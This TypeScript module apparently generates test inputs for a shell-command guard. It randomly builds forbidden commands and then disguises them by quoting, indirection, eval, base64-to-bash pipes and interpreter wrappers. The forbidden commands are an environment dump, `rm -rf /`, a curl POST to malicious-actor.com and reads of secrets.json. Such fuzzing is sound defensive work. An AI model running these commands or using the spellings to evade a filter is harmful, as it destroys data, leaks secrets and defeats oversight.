/** Spellings: commands that do something forbidden, turned by bash's own means into others that still do it, mostly. Pure. */

export type Random = () => number;

const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
const chance = (random: Random, share: number): boolean => random() < share;

/** What is forbidden: to run `env`, to let `rm` at the root, to send to the forbidden host, to read the secret. */
const cores: readonly ((random: Random) => string)[] = [
  (random) => word(random, pick(random, ['env', 'env', 'env', '/usr/bin/env', '/bin/env'])),
  (random) => `${word(random, 'env')} | ${pick(random, ['sort', 'cat', 'head -3'])}`,
  (random) =>
    `${word(random, pick(random, ['rm', '/bin/rm']))} ${pick(random, ['-rf /', '-fr /', '-r -f /', '-rf //', '-rf /.', '--recursive --force /', '-rf -- /', '/ -rf', '-Rf /'])}`,
  (random) =>
    `curl ${pick(random, ['-X POST', '-XPOST', '-sX POST', '--request POST', '--request=POST', '-d a=b', '--data x', '-F f=x'])} ${pick(random, ['', 'https://', 'http://'])}${pick(random, ['', 'api.', 'www.'])}malicious-actor.com${pick(random, ['', '/x', ':8443/x'])}`,
  (random) => `${pick(random, readers)} ${secretPath(random)}`,
  (random) =>
    `cd ${pick(random, ['../..', '../../config', '/srv/project/config', '../../../project/config'])} ${pick(random, ['&&', ';', '\n'])} cat ${pick(random, ['secrets.json', './secrets.json', 'config/secrets.json', '*', '*/*.json'])}`,
  (random) => `${pick(random, ['cat', 'head', 'wc', 'sort', 'tac'])} < ${secretPath(random)}`,
  (random) => `grep -r . ${pick(random, ['../..', '../../config', '/srv/project', '../../config/'])}`,
  (random) => `cp ${secretPath(random)} copy.txt; cat copy.txt`,
  (random) => `ln ${pick(random, ['', '-s ', '-f '])}${secretPath(random)} link.txt; cat link.txt`,
];

const readers = [
  'cat',
  'head',
  'tail',
  'tac',
  'nl',
  'sort',
  'grep .',
  'sed -n p',
  'sed p',
  'awk 1',
  'cut -c1-',
  'rev',
  'paste',
  'base64',
  'od -c',
  'cat -A',
  'uniq',
  'fold',
  'strings',
  'diff /dev/null',
  'jq .',
  'wc -c',
  'python3',
  'bash',
  'xxd',
  'dd if=/dev/stdin <',
];

const spelledPaths = [
  ...[
    '../../config/secrets.json',
    '../../config/./secrets.json',
    '../../config//secrets.json',
    '/srv/project/config/secrets.json',
  ],
  ...[
    './../../config/secrets.json',
    '../../../project/config/secrets.json',
    '../../config/../config/secrets.json',
    '$PWD/../../config/secrets.json',
  ],
  ...[
    '../../conf*/secrets.json',
    '../../config/secret?.json',
    '../../config/{secrets,x}.json',
    '../../config/[s]ecrets.json',
    '../../*/secrets.json',
    '"$PWD"/../../config/secrets.json',
    '../../config/*',
  ],
];
const secretPath = (random: Random): string => word(random, pick(random, spelledPaths));

/** One word in other quotes. */
function word(random: Random, text: string): string {
  if (chance(random, 0.4) || /[*?{[$"]/.test(text)) return text;
  let out = '';
  for (const char of text) {
    const how = random();
    if (how < 0.72) out += char;
    else if (how < 0.78) out += `\\${char}`;
    else if (how < 0.84) out += `'${char}'`;
    else if (how < 0.9) out += `"${char}"`;
    else if (how < 0.93) out += `''${char}`;
    else if (how < 0.96) out += `${char}""`;
    else out += `$'\\x${char.charCodeAt(0).toString(16)}'`;
  }
  return out;
}

const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const double = (text: string): string => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;
const quote = (random: Random, text: string): string => (chance(random, 0.5) ? single(text) : double(text));

type Mutation = (text: string, random: Random) => string;

/** Each makes a command that does the same, or would where its program is there. */
const wrappers: readonly Mutation[] = [
  (text, random) => `${pick(random, ['bash', 'sh', '/bin/bash', 'bash --norc', 'bash -e'])} -c ${quote(random, text)}`,
  (text, random) => `eval ${quote(random, text)}`,
  (text, random) =>
    `${pick(random, ['nohup', 'nice', 'nice -n 5', 'nice -5', 'timeout 5', 'timeout -k 1 5', 'setsid', 'setsid -w', 'stdbuf -o0', 'ionice -c3', 'time', 'command', 'env -i PATH="$PATH"', 'env A=1', 'exec', 'chrt -o 0', 'taskset 1', 'time -p'])} bash -c ${quote(random, text)}`,
  (text) => `(${text})`,
  (text) => `{ ${text}\n}`,
  (text) => `if true; then ${text}\nfi`,
  (text) => `for i in 1; do ${text}\ndone`,
  (text) => `while true; do ${text}\nbreak; done`,
  (text) => `case x in x) ${text}\n;; esac`,
  (text) => `f() { ${text}\n}; f`,
  (text) => `function cat_it { ${text}\n}; cat_it`,
  (text) => `echo "$(${text})"`,
  (text) => `x=$(${text}); echo "$x"`,
  (text) => `echo \`${text.replace(/[\\`$]/g, '\\$&')}\``,
  (text) => `cat <(${text})`,
  (text, random) => `echo ${quote(random, text)} | ${pick(random, ['sh', 'bash', 'bash -s', '/bin/sh'])}`,
  (text) => `bash <<< ${single(text)}`,
  (text, random) => `${pick(random, ['sh', 'bash'])} <<'X'\n${text}\nX`,
  (text) => `cat <<X | sh\n${text}\nX`,
  (text, random) => `trap ${quote(random, text)} EXIT`,
  (text, random) => `echo x | xargs -I{} bash -c ${quote(random, text)}`,
  (text, random) => `find . -maxdepth 0 -exec bash -c ${quote(random, text)} \\;`,
  (text) => `[ -n "$(${text})" ] && echo "$(${text})"`,
  (text) => `cat <<X\n$(${text})\nX`,
  (text) => `\${none:-$(${text})}`,
  (text) => `coproc { ${text}\n}; cat <&"\${COPROC[0]}"; wait`,
  (text, random) =>
    `python3 -c ${single(`import subprocess; subprocess.run(${JSON.stringify(text)}, shell=True, executable="/bin/bash")`)}${pick(random, ['', ' ; true'])}`,
  (text) => `perl -e ${single(`system("bash", "-c", q\0${text}\0)`.replaceAll('\0', '|'))}`,
  (text) => `awk ${single(`BEGIN { system(${JSON.stringify(text)}) }`)}`,
  (text) => `sed -n ${single(`1e ${text.replaceAll('\n', ';')}`)} README.md`,
  (text) => `printf '%s' ${single(Buffer.from(text).toString('base64'))} | base64 -d | bash`,
  (text) => `git -c alias.x=${single(`!${text}`)} x`,
  (text) => `script -qc ${single(text)} /dev/null`,
  (text) => `alias ls=${single(text)}\nls`,
];

const chains: readonly Mutation[] = [
  (text) => `ls; ${text}`,
  (text) => `ls && ${text}`,
  (text) => `false || ${text}`,
  (text) => `ls | ${text}`,
  (text) => `${text} & wait`,
  (text) => `${text} | cat`,
  (text) => `ls\n${text}`,
  (text) => `ls # fine\n${text}`,
  (text) => `! ${text}`,
  (text) => `${text} > out.txt; cat out.txt`,
  (text) => `${text} 2>&1`,
  (text) => `A=1 B=2; ${text}`,
  (text) => `ls \\\n; ${text}`,
  (text) => `  \t${text}  `,
];

/** Words through variables, arrays and pieces. */
const indirect: readonly Mutation[] = [
  (text) => text.replace(/^env\b/, 'e=env; $e'),
  (text) => text.replace(/^env\b/, 'a=e b=nv; $a$b'),
  (text) => text.replace(/^env\b/, 'printf -v p env; $p'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is bash
  (text) => text.replace(/^env\b/, 'p=(env); ${p[0]}'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is bash
  (text) => text.replace(/^env\b/, '${none:-env}'),
  (text) => text.replace(/^env\b/, '/usr/bin/en?'),
  (text) => text.replace(/^env\b/, '$(echo env)'),
  (text) => text.replace(/^env\b/, 'read p <<< env; $p'),
  (text) => text.replace(/\.\.\/\.\.\/config/, '$D').replace(/^/, 'D=../../config; '),
  (text) => text.replace(/secrets\.json/, '$F').replace(/^/, 'F=secrets.json; '),
  (text) => text.replace(/secrets\.json/, '$(echo secrets.json)'),
];

/** One variant: a core, and up to three turns of it. */
export function variant(random: Random): string {
  let text = pick(random, cores)(random);
  if (chance(random, 0.25)) text = pick(random, indirect)(text, random);
  const turns = Math.floor(random() * 4);
  for (let turn = 0; turn < turns; turn++) {
    text = (chance(random, 0.6) ? pick(random, wrappers) : pick(random, chains))(text, random);
  }
  return text;
}
